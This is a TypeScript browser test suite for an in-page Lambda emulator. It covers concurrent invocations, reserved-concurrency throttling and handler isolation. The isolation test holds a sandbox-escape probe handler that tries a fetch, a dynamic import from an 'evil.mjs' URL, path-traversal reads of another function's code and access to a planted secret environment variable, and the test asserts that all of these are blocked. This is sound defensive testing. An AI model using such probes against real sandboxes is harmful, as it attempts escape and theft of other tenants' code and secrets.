/**
 * Concurrency as a user of the page sees it, in real Chromium: two invocations at once run in
 * two execution environments at the same time (they overlap, each with its own log stream),
 * reserved concurrency 1 throttles the second of two concurrent invocations with Lambda's 429,
 * and a Node.js handler run through the page reaches nothing of the page (no storage, network,
 * messaging or DOM). Requests go through the app's own `/api` (the service worker).
 */
import { strToU8, zipSync } from 'fflate';
import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { useConsoleSession } from './fixtures';

const session = useConsoleSession();

const OVERLAP_HANDLER = `export const handler = async (event) => {
  const start = Date.now();
  console.log('begin', event.n);
  await new Promise((resolve) => setTimeout(resolve, 600));
  return { n: event.n, start, end: Date.now() };
};
`;

const ESCAPE_HANDLER = `export const handler = async () => {
  const probes = {};
  for (const name of ['indexedDB', 'localStorage', 'sessionStorage', 'caches', 'document', 'window', 'postMessage',
    'importScripts', 'XMLHttpRequest', 'WebSocket', 'BroadcastChannel', 'Worker', 'navigator', 'self', 'location']) {
    probes[name] = typeof globalThis[name];
  }
  let fetchResult;
  try {
    await fetch('https://example.com/');
    fetchResult = 'fetched';
  } catch (error) {
    fetchResult = String(error);
  }
  let dynamicImport;
  try {
    await import('https://example.com/evil.mjs');
    dynamicImport = 'imported';
  } catch (error) {
    dynamicImport = 'refused';
  }
  const { readFileSync } = await import('node:fs');
  const otherCode = {};
  for (const path of ['/var/task/../holder/index.mjs', '/var/holder/index.mjs', '/holder/index.mjs', '/opt/holder/index.mjs']) {
    try { otherCode[path] = readFileSync(path, 'utf8'); } catch (error) { otherCode[path] = error.code; }
  }
  return { probes, fetchResult, dynamicImport, otherFunction: typeof process.env.SECRET_OF_ANOTHER_FUNCTION, otherCode };
};
`;

interface ApiAnswer {
  status: number;
  headers: Record<string, string>;
  body: string;
}

/** One request to the app's `/api`, from the page, as a script of the tutorial would send it. */
async function api(page: Page, method: string, path: string, body?: string, headers: Record<string, string> = {}): Promise<ApiAnswer> {
  return page.evaluate(
    async ({ method, path, body, headers }) => {
      const response = await fetch(new URL(`api${path}`, document.baseURI), { method, body, headers: { 'content-type': 'application/json', ...headers } });
      return { status: response.status, headers: Object.fromEntries(response.headers.entries()), body: await response.text() };
    },
    { method, path, body, headers },
  );
}

async function createFunction(page: Page, name: string, code: string, environment: Record<string, string> = {}): Promise<void> {
  const zip = zipSync({ 'index.mjs': strToU8(code) });
  const created = await api(
    page,
    'POST',
    '/2015-03-31/functions',
    JSON.stringify({
      FunctionName: name,
      Runtime: 'nodejs22.x',
      Role: 'arn:aws:iam::123456789012:role/lambda-role',
      Handler: 'index.handler',
      Code: { ZipFile: Buffer.from(zip).toString('base64') },
      Environment: { Variables: environment },
    }),
  );
  expect(created.status, created.body).toBe(201);
  await expect
    .poll(async () => JSON.parse((await api(page, 'GET', `/2015-03-31/functions/${name}/configuration`)).body).State, { timeout: 10_000 })
    .toBe('Active');
}

function invoke(page: Page, name: string, event: unknown): Promise<ApiAnswer> {
  return api(page, 'POST', `/2015-03-31/functions/${name}/invocations`, JSON.stringify(event), { 'x-amz-log-type': 'Tail' });
}

async function ready(): Promise<Page> {
  const { page } = session();
  await session().gotoFunctions();
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null, null, { timeout: 60_000 });
  return page;
}

describe.sequential('concurrency in the page', () => {
  it('two invocations at once run at the same time in two environments', async () => {
    const page = await ready();
    await createFunction(page, 'overlap', OVERLAP_HANDLER);
    const [a, b] = await Promise.all([invoke(page, 'overlap', { n: 1 }), invoke(page, 'overlap', { n: 2 })]);
    expect([a.status, b.status]).toEqual([200, 200]);
    const first = JSON.parse(a.body) as { start: number; end: number };
    const second = JSON.parse(b.body) as { start: number; end: number };
    // Each ran while the other was running.
    expect(first.start).toBeLessThan(second.end);
    expect(second.start).toBeLessThan(first.end);
    // Two environments: two cold starts, so both REPORT lines carry an Init Duration.
    for (const answer of [a, b]) expect(Buffer.from(answer.headers['x-amz-log-result'] ?? '', 'base64').toString()).toContain('Init Duration');
    const fn = await session().gotoFunction('overlap');
    await fn.page.getByRole('tab', { name: 'Logs' }).click();
    await expect.poll(async () => (await fn.page.locator('table.streams tbody button.mono').allInnerTexts()).length, { timeout: 10_000 }).toBe(2);
    // In the log group, each invocation's START comes before the other's END: the lines interleave.
    const blocks = fn.page.locator('li.block.invocation');
    await expect.poll(() => blocks.count(), { timeout: 10_000 }).toBe(2);
    const spans = await blocks.evaluateAll((items) =>
      items.map((item) => ({
        start: Date.parse(item.querySelector('li.line.start time')?.getAttribute('datetime') ?? ''),
        end: Date.parse(item.querySelector('li.line.end time')?.getAttribute('datetime') ?? ''),
      })),
    );
    const [x, y] = spans as [{ start: number; end: number }, { start: number; end: number }];
    for (const span of spans) expect(span.end - span.start).toBeGreaterThanOrEqual(550);
    expect(x.start).toBeLessThan(y.end);
    expect(y.start).toBeLessThan(x.end);
  });

  it('reserved concurrency 1 throttles the second of two invocations at once with 429', async () => {
    const page = await ready();
    const put = await api(page, 'PUT', '/2017-10-31/functions/overlap/concurrency', JSON.stringify({ ReservedConcurrentExecutions: 1 }));
    expect(put.status, put.body).toBe(200);
    const answers = await Promise.all([invoke(page, 'overlap', { n: 1 }), invoke(page, 'overlap', { n: 2 })]);
    const statuses = answers.map((answer) => answer.status).sort();
    expect(statuses).toEqual([200, 429]);
    const throttled = answers.find((answer) => answer.status === 429);
    expect(throttled?.headers['x-amzn-errortype']).toContain('TooManyRequestsException');
    expect(JSON.parse(throttled?.body ?? '{}')).toMatchObject({ Reason: 'ReservedFunctionConcurrentInvocationLimitExceeded' });
  });

  it("a Node.js handler reaches none of the page's storage, network, messaging or DOM, nor another function's variables", async () => {
    const page = await ready();
    await createFunction(page, 'holder', 'export const handler = async () => 1;', { SECRET_OF_ANOTHER_FUNCTION: 'hunter2' });
    await createFunction(page, 'escaper', ESCAPE_HANDLER);
    const answer = await invoke(page, 'escaper', {});
    expect(answer.status).toBe(200);
    expect(answer.headers['x-amz-function-error']).toBeUndefined();
    const result = JSON.parse(answer.body) as {
      probes: Record<string, string>;
      fetchResult: string;
      dynamicImport: string;
      otherFunction: string;
      otherCode: Record<string, string>;
    };
    expect(Object.entries(result.probes).filter(([, type]) => type !== 'undefined')).toEqual([]);
    expect(result.fetchResult).toContain('Allow network access');
    expect(result.dynamicImport).toBe('refused');
    expect(result.otherFunction).toBe('undefined');
    // The other function's code is in no path of this environment.
    expect(Object.values(result.otherCode)).toEqual(['ENOENT', 'ENOENT', 'ENOENT', 'ENOENT']);
    // The page and its control plane go on working.
    expect((await invoke(page, 'holder', {})).body).toBe('1');
    expect(session().pageErrors).toEqual([]);
  });
});
